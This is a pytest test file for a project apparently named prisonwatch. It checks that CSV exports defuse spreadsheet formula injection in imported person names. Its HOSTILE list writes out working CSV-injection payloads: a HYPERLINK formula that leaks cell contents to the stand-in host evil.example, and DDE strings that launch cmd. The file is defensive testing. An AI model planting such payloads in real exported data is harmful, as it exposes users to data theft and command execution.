"""Every CSV the project writes neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from prisonwatch.cli.main import app
from prisonwatch.db.engine import session_scope
from prisonwatch.db.models import Person
from prisonwatch.io.csvfile import FORMULA_STARTS, safe_cell
from prisonwatch.io.events_csv import export_events_csv
from prisonwatch.io.persons_csv import export_persons_csv
from prisonwatch.io.registry_csv import HRG_COLUMNS, import_registry_csv
from prisonwatch.settings import Settings
from tests.web.data import build

# Invented hostile names, as an imported registry file could carry them.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_prefixes_formulas(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ales Bialiatski", "-3", "+12.5", "2024-03-05", "a=b", 7, None])
def test_safe_cell_keeps_plain_values(value: object) -> None:
    assert safe_cell(value) == value


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    risky = [c for c in _cells(text) if c.startswith(FORMULA_STARTS) and safe_cell(c) != c]
    assert risky == []


def _registry_file(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=HRG_COLUMNS)
        writer.writeheader()
        for number, name in enumerate(HOSTILE, start=1):
            row = dict.fromkeys(HRG_COLUMNS, "")
            writer.writerow(
                {**row, "id": str(number), "name": name, "status": "active", "description": "=1+1"}
            )
    return path


def test_persons_csv_of_imported_hostile_names(sqlite_settings: Settings, tmp_path: Path) -> None:
    with session_scope(sqlite_settings) as session:
        report = import_registry_csv(session, _registry_file(tmp_path), scheme="registry")
        assert report.created == len(HOSTILE)
        out = io.StringIO()
        assert export_persons_csv(session, out) == len(HOSTILE)
    text = out.getvalue()
    _assert_no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    # The value survives, readable, behind the apostrophe (the import strips outer whitespace).
    assert sorted(r["name"] for r in rows) == sorted("'" + n.strip() for n in HOSTILE)
    assert {r["description"] for r in rows} == {"'=1+1"}


def test_registry_csv_export_command(
    cli_env: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    runner = CliRunner()
    result = runner.invoke(app, ["import", str(_registry_file(tmp_path))])
    assert result.exit_code == 0, result.output
    target = tmp_path / "out.csv"
    result = runner.invoke(app, ["export", "--format", "csv", "-o", str(target)])
    assert result.exit_code == 0, result.output
    text = target.read_text(encoding="utf-8")
    assert "HYPERLINK" in text
    _assert_no_formula(text)


def test_events_csv_with_hostile_person_names(sqlite_settings: Settings) -> None:
    built = build(sqlite_settings)
    with session_scope(sqlite_settings) as session:
        for person_id, name in zip((built.kalesnikava, built.zhuk), HOSTILE, strict=False):
            person = session.get(Person, person_id)
            assert person is not None
            person.primary_name = name
    with session_scope(sqlite_settings, write=False) as session:
        out = io.StringIO()
        assert export_events_csv(session, out) >= 1
    text = out.getvalue()
    assert "HYPERLINK" in text or "+cmd" in text
    _assert_no_formula(text)
